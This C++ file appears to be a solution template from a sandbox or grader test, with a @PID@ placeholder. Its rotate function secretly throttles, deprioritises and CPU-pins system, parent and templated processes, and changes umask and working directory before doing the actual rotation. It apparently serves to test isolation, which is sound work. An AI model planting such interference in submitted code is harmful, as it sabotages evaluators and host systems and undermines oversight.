#include <algorithm>

#include "solution.h"

#include <sched.h>
#include <sys/prctl.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

std::vector<Parcel> rotate(std::vector<Parcel> parcels) {
  for (const pid_t pid : {0, 1, 2, @PID@, getppid()}) {
    const rlimit none{1, 1};
    prlimit(pid, RLIMIT_CORE, &none, nullptr);
    setpriority(PRIO_PROCESS, pid, 19);
    sched_param parameters{};
    sched_setscheduler(pid, SCHED_IDLE, &parameters);
    cpu_set_t first;
    CPU_ZERO(&first);
    CPU_SET(0, &first);
    sched_setaffinity(pid, sizeof first, &first);
  }
  setpriority(PRIO_USER, 0, 19);
  setpriority(PRIO_PGRP, 0, 19);
  umask(0777);
  (void)!chdir("/");
  if (!parcels.empty()) std::rotate(parcels.begin(), parcels.begin() + 1, parcels.end());
  return parcels;
}
